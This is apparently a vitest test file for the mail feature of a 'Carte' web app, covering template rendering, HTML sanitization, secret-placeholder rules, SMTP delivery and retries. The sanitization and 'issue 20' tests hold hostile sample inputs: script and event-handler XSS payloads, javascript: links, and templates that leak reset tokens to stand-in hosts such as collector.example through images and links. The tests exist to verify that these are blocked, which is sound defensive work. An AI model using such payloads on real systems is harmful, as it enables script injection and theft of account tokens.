import { createServer } from 'node:net';
import { Writable } from 'node:stream';
import { mailTemplateNames, messages } from '@carte/domain';
import { eq, sql } from 'drizzle-orm';
import { PgBoss } from 'pg-boss';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createMailTransport, type MailTransport } from '../src/adapters/mail/index.ts';
import type { Logger } from '../src/core/logger.ts';
import { type Database, openDatabase } from '../src/db/connect.ts';
import { newId } from '../src/db/ids.ts';
import { mails, mailTemplates, users } from '../src/db/schema.ts';
import { defaultMailTemplates } from '../src/features/mail/default-templates.ts';
import {
  createMailer,
  listMails,
  type Mailer,
  type MailWorkerDeps,
  mailQueue,
  seedMailTemplates,
  startMailWorker,
  updateMailTemplate,
} from '../src/features/mail/mail.service.ts';
import { checkMailTemplate, htmlToText, renderMail } from '../src/features/mail/mail-render.ts';
import { createTestDatabaseUrl } from './db.ts';
import { type MailSink, startMailSink } from './mail-sink.ts';

const mailFrom = 'Carte <no-reply@carte.test>';

/** A pino logger whose lines the test can read. */
function captureLogger(): { log: Logger; lines: Array<Record<string, unknown>> } {
  const lines: Array<Record<string, unknown>> = [];
  const stream = new Writable({
    write(chunk, _encoding, done) {
      lines.push(JSON.parse(chunk.toString()));
      done();
    },
  });
  return { log: pino({ level: 'debug' }, stream), lines };
}

/** A database of its own, its pg-boss, the templates seeded, a mailer and a mail worker. */
interface Stack {
  database: Database;
  boss: PgBoss;
  mailer: Mailer;
  transport: MailTransport;
  lines: Array<Record<string, unknown>>;
  seeded: number;
  close(): Promise<void>;
}

async function startStack(
  smtpUrl: string | null,
  worker: Partial<Pick<MailWorkerDeps, 'retryDelaySeconds' | 'retryLimit'>> = {},
): Promise<Stack> {
  const url = await createTestDatabaseUrl();
  const database = openDatabase(url, 4);
  const boss = new PgBoss({ connectionString: url, max: 3 });
  boss.on('error', () => undefined);
  await boss.start();
  const seeded = await seedMailTemplates(database.db);
  const { log, lines } = captureLogger();
  const transport = createMailTransport({ smtpUrl, mailFrom }, { log });
  await startMailWorker({ db: database.db, boss, transport, log, pollingIntervalSeconds: 0.5, ...worker });
  const mailer = createMailer({ db: database.db, boss, log, publicUrl: 'http://carte.test' });
  return {
    database,
    boss,
    mailer,
    transport,
    lines,
    seeded,
    async close() {
      await boss.stop({ graceful: true, timeout: 2000 });
      await transport.close();
      await database.pool.end();
    },
  };
}

const mailRow = async (stack: Stack, id: string) =>
  (await stack.database.db.select().from(mails).where(eq(mails.id, id)))[0];

/** A port nothing listens on (yet). */
async function freePort(): Promise<number> {
  const probe = createServer();
  await new Promise<void>((resolve) => probe.listen(0, '127.0.0.1', resolve));
  const address = probe.address();
  await new Promise<void>((resolve) => probe.close(() => resolve()));
  if (!address || typeof address === 'string') throw new Error('no port');
  return address.port;
}

describe('renderMail', () => {
  it('escapes values in the body but not in the subject, and drops unknown placeholders', () => {
    const rendered = renderMail(
      {
        subject: 'Hi {{ user.firstName }} {{nope}} from {{appName}}',
        content: '<p>Hello {{user.firstName}}, {{unknown.thing}}welcome to {{ restaurant.name }}.</p>',
      },
      { 'user.firstName': '<b>Ann & "Co"</b>', 'restaurant.name': "Joe's <Diner>", appName: 'Carte' },
    );
    expect(rendered.subject).toBe('Hi <b>Ann & "Co"</b> from Carte');
    expect(rendered.html).toContain('Hello &lt;b&gt;Ann &amp; ');
    expect(rendered.html).not.toContain('<b>Ann');
    expect(rendered.html).toContain('welcome to Joe');
    expect(rendered.html).toContain('&lt;Diner&gt;');
    expect(rendered.html).not.toContain('{{');
    expect(rendered.text).toContain('Hello <b>Ann & "Co"</b>, welcome to Joe\'s <Diner>.');
  });

  it('uses the first placeholder of a | chain that has a value', () => {
    const template = {
      subject: '{{user.firstName|user.username}}',
      content: '<p>{{member.firstName|member.email}}</p>',
    };
    expect(renderMail(template, { 'user.username': 'annlee' }).subject).toBe('annlee');
    expect(renderMail(template, { 'user.firstName': 'Ann', 'user.username': 'annlee' }).subject).toBe('Ann');
    expect(renderMail(template, { 'member.email': 'noor@example.com' }).text).toContain('noor@example.com');
  });

  it('sanitizes the body: no scripts, handlers or javascript: links, formatting and tables kept', () => {
    const rendered = renderMail(
      {
        subject: 'x',
        content:
          '<p style="color:#ff1616;background:url(https://evil.test/x)">Hi <strong>there</strong></p>' +
          '<script>alert(1)</script><a href="{{link}}" onclick="steal()">Go</a>' +
          '<a href="javascript:alert(2)">bad</a><img src="https://cdn.test/logo.png" alt="Logo" onerror="x()">' +
          '<table><tr><td style="padding:4px">cell</td></tr></table><iframe src="https://evil.test"></iframe>',
      },
      { link: 'https://carte.test/reset-password?token=a&b=1', publicUrl: 'https://carte.test' },
    );
    const body = rendered.html;
    expect(body).not.toMatch(/<script|alert\(|onclick|onerror|javascript:|<iframe|url\(/i);
    expect(body).toContain('<strong>there</strong>');
    expect(body).toContain('style="color:#ff1616"');
    expect(body).toContain('href="https://carte.test/reset-password?token=a&amp;b=1"');
    // A remote image tells its host who opened the mail: it goes (issue 20).
    expect(body).not.toContain('cdn.test');
    expect(body).toContain('<td style="padding:4px">cell</td>');
    expect(rendered.text).toContain('Go (https://carte.test/reset-password?token=a&b=1)');
  });

  it('wraps the body in the branded layout and gives a readable text version', () => {
    const rendered = renderMail(defaultMailTemplates['user-verify-account'], {
      appName: 'Carte',
      publicUrl: 'http://carte.test',
      'user.username': 'annlee',
      'user.email': 'ann@example.com',
      link: 'http://carte.test/user-verify-account?token=t0k',
      expiresIn: '24 hours',
    });
    expect(rendered.subject).toBe('Confirm your email address for Carte');
    expect(rendered.html).toMatch(/^<!doctype html>/);
    expect(rendered.html).toContain('#ff1616');
    expect(rendered.html).toContain('href="http://carte.test/user-verify-account?token=t0k"');
    expect(rendered.text).toContain('Hello annlee,');
    expect(rendered.text).toContain('Verify my email (http://carte.test/user-verify-account?token=t0k)');
    expect(rendered.text).toContain('This link is valid for 24 hours.');
    expect(rendered.text).not.toMatch(/<|&amp;|\{\{/);
  });

  it('keeps images from Carte’s own site or inside the mail, and no other', () => {
    const rendered = renderMail(
      {
        subject: 'x',
        content:
          '<img src="{{publicUrl}}/logo.png" alt="own"><img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">' +
          '<img src="cid:logo" alt="cid"><img src="https://carte.test.evil.example/p.gif" alt="lookalike">' +
          '<img src="https://carte.test@evil.example/p.gif" alt="userinfo"><img src="//evil.example/p.gif">' +
          '<img src="https://evil.example/p.gif?u={{user.email}}" alt="remote">',
      },
      { publicUrl: 'https://carte.test', 'user.email': 'ann@example.com' },
    );
    expect(rendered.html).toContain('<img src="https://carte.test/logo.png" alt="own" />');
    expect(rendered.html).toContain('alt="inline"');
    expect(rendered.html).toContain('<img src="cid:logo" alt="cid" />');
    expect(rendered.html).not.toMatch(/evil\.example|lookalike|userinfo|alt="remote"/);
  });

  describe('secret placeholders (issue 20)', () => {
    const secretVars = {
      publicUrl: 'https://carte.test',
      link: 'https://carte.test/reset-password?token=S3CR3T',
      token: 'S3CR3T',
      'user.firstName': 'Ann',
    };
    const misplaced = [
      '<img src="https://collector.example/p.gif?t={{link}}">',
      '<img src="{{link}}">',
      '<p title="{{link}}">Hi</p>',
      '<a href="{{link}}" title="{{link}}">Reset</a>',
      '<a href="https://collector.example/?next={{link}}">Reset</a>',
      '<a href="{{link}}&amp;x=1">Reset</a>',
      '<p>Your token: {{token}}</p>',
      '<p>Copy {{ link }}</p>',
      '<a href="{{token}}">Reset</a>',
      '<p style="color:{{link}}">x</p>',
      '<script>{{link}}</script>',
      '<a href="{{publicUrl}}">{{link}}</a>',
      '<a href="https://collector.example/">{{user.firstName|link}}</a>',
    ];

    it.each(misplaced)('refuses and renders no secret for %s', (content) => {
      expect(checkMailTemplate({ subject: 'x', content })).toMatch(
        /^The placeholder \{\{(link|token)\}\} may only be the whole address of a link\.$/,
      );
      const rendered = renderMail({ subject: 'x', content }, secretVars);
      // The secret may stand only as the whole address of a link to Carte's own page.
      const ownLink = 'https://carte.test/reset-password?token=S3CR3T';
      expect(rendered.html.replaceAll(`<a href="${ownLink}">`, '')).not.toContain('S3CR3T');
      expect(rendered.text.replaceAll(`(${ownLink})`, '')).not.toContain('S3CR3T');
      expect(rendered.html).not.toMatch(/<img[^>]*collector/);
    });

    it('keeps the whole href of a link to Carte’s own site, and that link’s own text', () => {
      const content =
        '<a href="{{link}}">Choose a new password</a><p><a href="{{ link }}">{{ link }}</a></p>' +
        '<a href="{{link|publicUrl}}">Open</a>';
      expect(checkMailTemplate({ subject: 'Reset {{user.firstName}}', content })).toBeNull();
      const rendered = renderMail({ subject: 'x', content }, secretVars);
      expect(rendered.html).toContain('<a href="https://carte.test/reset-password?token=S3CR3T">Choose');
      expect(rendered.text).toContain('https://carte.test/reset-password?token=S3CR3T\n');
      for (const template of Object.values(defaultMailTemplates))
        expect(checkMailTemplate(template)).toBeNull();
    });

    it('drops a secret link that does not point to Carte’s own site', () => {
      const rendered = renderMail(
        { subject: 'x', content: '<a href="{{link}}">Open</a>' },
        { ...secretVars, link: 'https://collector.example/?t=S3CR3T' },
      );
      expect(rendered.html).not.toMatch(/S3CR3T|collector/);
      expect(rendered.text).toContain('Open');
    });

    it('renders a secret in the subject as nothing and refuses it', () => {
      const template = { subject: 'Reset {{link}} {{ token }} {{user.firstName}}', content: '<p>x</p>' };
      expect(renderMail(template, secretVars).subject).toBe('Reset Ann');
      expect(checkMailTemplate(template)).toBe(messages.mailSecretNotInSubject('{{link}}'));
    });
  });

  it('turns lists, breaks and images into text', () => {
    expect(
      htmlToText('<h1>Title</h1><ul><li>one</li><li>two</li></ul><p>a<br>b <img src="x" alt="pic"></p>'),
    ).toBe('Title\n\n- one\n- two\n\na\nb pic');
  });
});

describe('templates and SMTP delivery', () => {
  let stack: Stack;
  let sink: MailSink;
  beforeAll(async () => {
    sink = await startMailSink();
    stack = await startStack(sink.url);
  });
  afterAll(async () => {
    await stack?.close();
    await sink?.close();
  });

  it('seeds every template once and keeps an admin edit on the next seed', async () => {
    expect(stack.seeded).toBe(mailTemplateNames.length);
    const rows = await stack.database.db.select().from(mailTemplates);
    expect(rows.map((row) => row.name).sort()).toEqual([...mailTemplateNames].sort());
    expect(rows.every((row) => row.subject && row.content && row.title && row.description)).toBe(true);
    expect(rows.find((row) => row.name === 'user-forgot-username')?.groupName).toBe('User');

    await updateMailTemplate(stack.database.db, 'dma-deleted', {
      subject: 'Edited subject',
      content: '<p>Edited</p><script>x()</script>',
    });
    expect(await seedMailTemplates(stack.database.db)).toBe(0);
    const [edited] = await stack.database.db
      .select()
      .from(mailTemplates)
      .where(eq(mailTemplates.name, 'dma-deleted'));
    expect(edited).toMatchObject({ subject: 'Edited subject', content: '<p>Edited</p>' });
  });

  it('delivers a rendered mail over SMTP with its link, and records it as sent', async () => {
    const link = 'http://carte.test/user-verify-account?token=abc123';
    const id = await stack.mailer.send('user-verify-account', 'ann@example.com', {
      'user.firstName': 'Ann',
      'user.username': 'annlee',
      'user.email': 'ann@example.com',
      link,
    });
    const mail = await sink.waitFor((m) => m.to.includes('ann@example.com'));
    expect(mail.subject).toBe('Confirm your email address for Carte');
    expect(mail.from).toBe(mailFrom);
    expect(mail.links).toContain(link);
    expect(mail.html).toContain('Hello Ann,');
    expect(mail.text).toContain(`Verify my email (${link})`);
    // The lifetime comes from the catalogue when the caller does not give one (decisions §4).
    expect(mail.text).toContain('valid for 24 hours');

    await vi.waitFor(async () => {
      expect(await mailRow(stack, id)).toMatchObject({
        status: 'sent',
        attempts: 1,
        template: 'user-verify-account',
      });
    });
    expect((await mailRow(stack, id))?.sentAt).toBeInstanceOf(Date);
  });

  it('delivers a backlog in batches, every mail on its own', async () => {
    const recipients = Array.from({ length: 12 }, (_, index) => `batch${index}@example.com`);
    const ids = await Promise.all(
      recipients.map((to) =>
        stack.mailer.send('user-forgot-password', to, { link: `http://carte.test/r?to=${to}` }),
      ),
    );
    await Promise.all(recipients.map((to) => sink.waitFor((m) => m.to.includes(to))));
    await vi.waitFor(async () => {
      for (const id of ids) expect((await mailRow(stack, id))?.status).toBe('sent');
    });
  });

  it('queues nothing when the caller’s transaction rolls back', async () => {
    let id = '';
    await expect(
      stack.database.db.transaction(async (tx) => {
        id = await stack.mailer.send(
          'user-forgot-password',
          'rollback@example.com',
          { link: 'http://x.test' },
          { db: tx },
        );
        throw new Error('rolled back');
      }),
    ).rejects.toThrow('rolled back');
    expect(id).not.toBe('');
    expect(await listMails(stack.database.db, { to: 'rollback@example.com' })).toEqual([]);
    const jobs = await stack.database.pool.query(
      `SELECT 1 FROM pgboss.job WHERE name = $1 AND data->>'mailId' = $2`,
      [mailQueue, id],
    );
    expect(jobs.rowCount).toBe(0);
  });

  it('lists mails newest first, filtered by recipient', async () => {
    const first = await stack.mailer.send('user-forgot-username', 'list@example.com', { usernames: 'a, b' });
    const second = await stack.mailer.send('user-forgot-password', 'list@example.com', {
      link: 'http://x.test/r',
    });
    await stack.mailer.send('user-forgot-password', 'other@example.com', { link: 'http://x.test/r' });
    const listed = await listMails(stack.database.db, { to: 'list@example.com' });
    expect(listed.map((mail) => mail.id)).toEqual([second, first]);
    expect(await listMails(stack.database.db, { to: 'list@example.com', limit: 1 })).toHaveLength(1);
  });

  it('uses the admin’s edited template for the next mail', async () => {
    await updateMailTemplate(stack.database.db, 'dma-client-deleted', {
      subject: 'Goodbye {{client.username}}',
      content: '<p>Account {{client.username}} removed.</p>',
    });
    await stack.mailer.send('dma-client-deleted', 'client@example.com', { 'client.username': 'harbour' });
    const mail = await sink.waitFor((m) => m.to.includes('client@example.com'));
    expect(mail.subject).toBe('Goodbye harbour');
    expect(mail.text).toContain('Account harbour removed.');
  });
});

describe('templates stored around the checks (issue 20)', () => {
  let stack: Stack;
  let sink: MailSink;
  beforeAll(async () => {
    sink = await startMailSink();
    stack = await startStack(sink.url);
  });
  afterAll(async () => {
    await stack?.close();
    await sink?.close();
  });

  const link = 'http://carte.test/reset-password?token=T0KEN-2b7f';
  const hostile =
    '<p>Hello</p><img src="https://collector.example/p.gif?t={{link}}"><a href="https://collector.example/?{{token}}">more</a>' +
    '<p title="{{link}}">{{token}}</p><img src="https://collector.example/open.gif"><a href="{{link}}">Reset</a>';

  it('a template written straight into the database mails no secret and no remote image', async () => {
    await stack.database.db
      .update(mailTemplates)
      .set({ subject: 'Reset {{link}}', content: hostile })
      .where(eq(mailTemplates.name, 'user-forgot-password'));
    const id = await stack.mailer.send('user-forgot-password', 'owner@example.com', {
      link,
      token: 'T0KEN-2b7f',
    });
    const mail = await sink.waitFor((m) => m.to.includes('owner@example.com'));
    expect(mail.subject).toBe('Reset');
    expect(mail.links).toContain(link);
    // An ordinary link elsewhere may stay, without the secret; images from elsewhere go.
    expect(mail.html).not.toMatch(/<img|\.gif/);
    expect(mail.links.filter((address) => address.includes('T0KEN-2b7f'))).toEqual([link]);
    expect(mail.html.split('T0KEN-2b7f')).toHaveLength(2); // the one link to Carte's own page
    const row = await mailRow(stack, id);
    expect(row?.html).not.toMatch(/<img|\.gif/);
  });

  it('a staff address gets the built-in template, an owner the edited one', async () => {
    await stack.database.db
      .update(mailTemplates)
      .set({ subject: 'Edited reset', content: '<p>Edited body</p><a href="{{link}}">Reset</a>' })
      .where(eq(mailTemplates.name, 'user-forgot-password'));
    await stack.database.db.insert(users).values({
      username: `staff_${process.pid}`,
      email: 'Staff@Example.com',
      role: 'ADMIN',
      personId: newId(),
    });
    await stack.mailer.send('user-forgot-password', 'staff@example.com', { link });
    await stack.mailer.send('user-forgot-password', 'plain-owner@example.com', { link });
    const staff = await sink.waitFor((m) => m.to.includes('staff@example.com'));
    expect(staff.subject).toBe(
      defaultMailTemplates['user-forgot-password'].subject.replace('{{appName}}', 'Carte'),
    );
    expect(staff.text).not.toContain('Edited body');
    expect(staff.links).toContain(link);
    const owner = await sink.waitFor((m) => m.to.includes('plain-owner@example.com'));
    expect(owner.subject).toBe('Edited reset');
    expect(owner.links).toContain(link);
  });
});

describe('outbox mode', () => {
  let stack: Stack;
  beforeAll(async () => {
    stack = await startStack(null);
  });
  afterAll(async () => {
    await stack?.close();
  });

  it('keeps the mail as "outbox" and prints its recipient, subject and link to the log', async () => {
    expect(stack.transport.kind).toBe('outbox');
    const link = 'http://carte.test/reset-password?token=r3set&x=1';
    const id = await stack.mailer.send('user-forgot-password', 'bob@example.com', {
      'user.username': 'bob',
      link,
    });
    await vi.waitFor(async () => {
      expect(await mailRow(stack, id)).toMatchObject({ status: 'outbox', attempts: 1 });
    });
    const line = stack.lines.find((entry) => String(entry.msg).startsWith('Outbox mail to bob@example.com'));
    expect(line).toBeDefined();
    expect(line?.level).toBe(30);
    expect(line?.msg).toContain('Reset your Carte password');
    expect(line?.msg).toContain(link);
    expect(line?.mail).toMatchObject({ to: 'bob@example.com', subject: 'Reset your Carte password' });
    // The action link first; the layout's link to the site comes after it.
    expect((line?.mail as { links?: string[] } | undefined)?.links?.[0]).toBe(link);
  });
});

describe('SMTP down, then up', () => {
  let stack: Stack;
  let sink: MailSink | undefined;
  let port: number;
  beforeAll(async () => {
    port = await freePort();
    stack = await startStack(`smtp://127.0.0.1:${port}`, { retryDelaySeconds: 1 });
  });
  afterAll(async () => {
    await stack?.close();
    await sink?.close();
  });

  it('keeps the mail queued with its error while SMTP is down, and delivers it on a retry', async () => {
    const link = 'http://carte.test/user-verify-account?token=late';
    const id = await stack.mailer.send('user-verify-account', 'late@example.com', { link });

    await vi.waitFor(
      async () => {
        const row = await mailRow(stack, id);
        expect(row?.attempts).toBeGreaterThanOrEqual(1);
        expect(row?.lastError).toMatch(/ECONNREFUSED|connect/i);
      },
      { timeout: 10_000, interval: 100 },
    );
    expect((await mailRow(stack, id))?.status).toBe('queued');

    sink = await startMailSink({ port });
    const mail = await sink.waitFor((m) => m.to.includes('late@example.com'), 20_000);
    expect(mail.links).toContain(link);
    await vi.waitFor(async () => {
      expect((await mailRow(stack, id))?.status).toBe('sent');
    });
    expect((await mailRow(stack, id))?.attempts).toBeGreaterThanOrEqual(2);
  });
});

describe('retries exhausted', () => {
  let stack: Stack;
  beforeAll(async () => {
    stack = await startStack(`smtp://127.0.0.1:${await freePort()}`, { retryDelaySeconds: 1, retryLimit: 1 });
  });
  afterAll(async () => {
    await stack?.close();
  });

  it('marks the mail failed after the last retry, and keeps it', async () => {
    const id = await stack.mailer.send('user-forgot-password', 'never@example.com', {
      link: 'http://x.test/r',
    });
    await vi.waitFor(
      async () => {
        expect(await mailRow(stack, id)).toMatchObject({ status: 'failed', attempts: 2 });
      },
      { timeout: 15_000, interval: 200 },
    );
    expect((await mailRow(stack, id))?.lastError).toBeTruthy();
    // The mail row is marked before the job throws; pg-boss records the job's end just after.
    await vi.waitFor(
      async () => {
        const [job] = (
          await stack.database.db.execute(
            sql`SELECT state FROM pgboss.job WHERE name = ${mailQueue} AND data->>'mailId' = ${id}`,
          )
        ).rows as Array<{ state: string }>;
        expect(job?.state).toBe('failed');
      },
      { timeout: 10_000, interval: 200 },
    );
  });
});
